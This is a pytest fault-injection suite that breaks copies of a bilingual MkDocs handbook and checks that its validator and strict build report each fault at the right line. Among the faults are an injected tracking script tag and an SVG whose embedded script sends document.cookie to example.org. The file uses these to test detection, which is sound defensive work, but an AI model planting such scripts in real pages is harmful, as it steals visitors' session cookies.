"""Fault injection: copy the real handbook, break it, and check that the check fails and
names the right file and line, and that the strict build stops on the same findings.

Relation faults break one copy each. Hostile content (hostile_payloads.py) shares one copy:
each payload sits on its own page, so one check run and one build serve dozens of faults.
Expected lines are found by searching the broken file, never hard-coded, so the suite keeps
working as the content is edited.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hostile_payloads import PAYLOADS, Planted, plant

from handbook.cli import main

from helpers import PROJECT_PARTS, ROOT, copy_project, strict_build


def line_of(path: Path, needle: str) -> int:
    for number, line in enumerate(path.read_text(encoding="utf-8").split("\n"), start=1):
        if needle in line:
            return number
    raise AssertionError(f"{needle!r} not in {path}")


@pytest.fixture
def handbook(tmp_path: Path) -> Path:
    """A private copy of the real handbook (two languages) that a test may break."""
    return copy_project(tmp_path, ("docs", "includes", "mkdocs.yml"))


def _check(root: Path, capsys) -> tuple[int, list[tuple[str, int, str]]]:
    code = main(["check", str(root), "--format", "json"])
    import json

    data = json.loads(capsys.readouterr().out)
    return code, [
        (f["path"], f["line"], f["code"]) for f in data["findings"] if f["severity"] == "error"
    ]


def test_the_real_handbook_copy_is_clean(handbook, capsys) -> None:
    assert _check(handbook, capsys) == (0, [])


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def delete_page(root: Path) -> tuple[str, int, str]:
    (root / "docs/nb/sarskilte-mal/2-4.md").unlink()
    (root / "docs/en/sarskilte-mal/2-4.md").unlink()
    return ("mkdocs.yml", line_of(root / "mkdocs.yml", "sarskilte-mal/2-4.md"), "HB007")


def relation_to_missing_id(root: Path) -> tuple[str, int, str]:
    page = root / "docs/nb/sarskilte-mal/2-4.md"
    _edit(page, "goals: [", "goals: [mal-klima, ")
    return ("docs/nb/sarskilte-mal/2-4.md", line_of(page, "goals:"), "HB004")


def objective_under_wrong_priority(root: Path) -> tuple[str, int, str]:
    page = root / "docs/nb/sarskilte-mal/4-1.md"
    _edit(page, "priority: po-4", "priority: po-3")
    return ("docs/nb/sarskilte-mal/4-1.md", line_of(page, "priority:"), "HB005")


def duplicate_id(root: Path) -> tuple[str, int, str]:
    page = root / "docs/nb/sarskilte-mal/2-6.md"
    _edit(page, "id: so-2-6", "id: so-2-4")
    return ("docs/nb/sarskilte-mal/2-6.md", line_of(page, "id:"), "HB002")


def broken_yaml(root: Path) -> tuple[str, int, str]:
    page = root / "docs/nb/prioriteringer/po1.md"
    _edit(page, "kind: priority", "kind: [priority")
    return ("docs/nb/prioriteringer/po1.md", line_of(page, "kind:"), "HB001")


def dropped_translation(root: Path) -> tuple[str, int, str]:
    (root / "docs/en/hovedmal/pavirkning.md").unlink()
    return ("docs/nb/hovedmal/pavirkning.md", 1, "HB008")


def broken_anchor(root: Path) -> tuple[str, int, str]:
    page = root / "docs/nb/sarskilte-mal/3-2.md"
    _edit(page, "ordliste.md#ten-t)", "ordliste.md#tent)")
    return ("docs/nb/sarskilte-mal/3-2.md", line_of(page, "ordliste.md#tent)"), "HB009")


def script_tag(root: Path) -> tuple[str, int, str]:
    page = root / "docs/nb/ordliste.md"
    text = page.read_text(encoding="utf-8")
    page.write_text(text + '\n<script src="https://example.org/track.js"></script>\n', "utf-8")
    return ("docs/nb/ordliste.md", line_of(page, "<script"), "HB010")


def symlinked_page(root: Path) -> tuple[str, int, str]:
    (root / "docs/nb/om/maskin.md").symlink_to("/etc/hostname")
    return ("docs/nb/om/maskin.md", 1, "HB012")


def script_in_svg(root: Path) -> tuple[str, int, str]:
    image = root / "docs/nb/om/figur.svg"
    image.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg">\n<rect width="1" height="1"/>\n'
        "<script>fetch('https://example.org/'+document.cookie)</script>\n</svg>\n",
        encoding="utf-8",
    )
    return ("docs/nb/om/figur.svg", line_of(image, "<script"), "HB012")


FAULTS: list[Callable[[Path], tuple[str, int, str]]] = [
    delete_page,
    relation_to_missing_id,
    objective_under_wrong_priority,
    duplicate_id,
    broken_yaml,
    dropped_translation,
    broken_anchor,
    script_tag,
    symlinked_page,
    script_in_svg,
]


@pytest.mark.parametrize("fault", FAULTS, ids=[f.__name__ for f in FAULTS])
def test_fault_is_caught_at_the_right_place(handbook, capsys, fault) -> None:
    expected = fault(handbook)
    code, errors = _check(handbook, capsys)
    assert code == 1
    assert expected in errors, f"expected {expected}, got {errors}"


def test_the_build_fails_on_a_fault_and_names_it(handbook) -> None:
    """The MkDocs hooks run the same rules: a strict build of a broken copy stops."""

    for part in ("scripts", "overrides"):
        shutil.copytree(ROOT / part, handbook / part)
    path, line, code = objective_under_wrong_priority(handbook)
    completed = strict_build(handbook, handbook / "site")
    assert completed.returncode != 0
    assert f"{path}:{line}: {code}" in completed.stderr


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, list[Planted]]:
    """One copy of the whole project with every hostile payload planted, and where each is."""
    root = copy_project(tmp_path_factory.mktemp("hostile"), PROJECT_PARTS)
    return root, plant(root)


def test_every_hostile_payload_is_reported_at_its_line(hostile, capsys) -> None:
    root, planted = hostile
    code, errors = _check(root, capsys)
    assert code == 1
    missing = [p.expected for p in planted if p.payload.code and p.expected not in errors]
    assert missing == [], f"not reported: {missing}"
    assert len(planted) == len(PAYLOADS)


def test_the_strict_build_stops_on_the_same_findings(hostile) -> None:
    root, planted = hostile
    completed = strict_build(root, root / "site-strict")
    assert completed.returncode != 0
    assert "Traceback" not in completed.stderr
    missing = [
        p.expected
        for p in planted
        if p.payload.code and "{}:{}: {}".format(*p.expected) not in completed.stderr
    ]
    assert missing == [], f"the build did not name: {missing}"
